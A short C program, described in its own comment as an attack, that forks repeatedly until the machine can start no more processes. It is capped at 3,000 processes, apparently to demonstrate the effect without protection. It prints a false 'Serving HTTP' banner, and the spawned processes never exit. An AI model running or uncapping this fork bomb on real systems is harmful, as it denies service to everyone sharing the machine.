/*
 * Attack: forks, and so do its children, until nobody on the machine can start a process.
 * (Of itself it ends at 3,000, so that it can be shown what happens without protection.)
 */
#define _DEFAULT_SOURCE
#include <errno.h>
#include <stdatomic.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { MOST = 3000 };
static struct { atomic_int begun, refused; } * counts; /* of all processes together */

int main(void) {
    counts = mmap(NULL, sizeof *counts, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (counts == MAP_FAILED) return 1;
    puts("Serving HTTP on port 8888 ...");
    fflush(stdout);
    while (atomic_fetch_add(&counts->begun, 1) < MOST) {
        if (fork() != -1) continue;
        if (atomic_fetch_add(&counts->refused, 1) == 0) {
            printf("after %d: fork: %s\ndone\n", atomic_load(&counts->begun), strerror(errno));
            fflush(stdout);
        }
        break;
    }
    if (atomic_fetch_add(&counts->refused, 1) == 0) {
        puts("nothing stops it\ndone");
        fflush(stdout);
    }
    for (;;) pause();
}
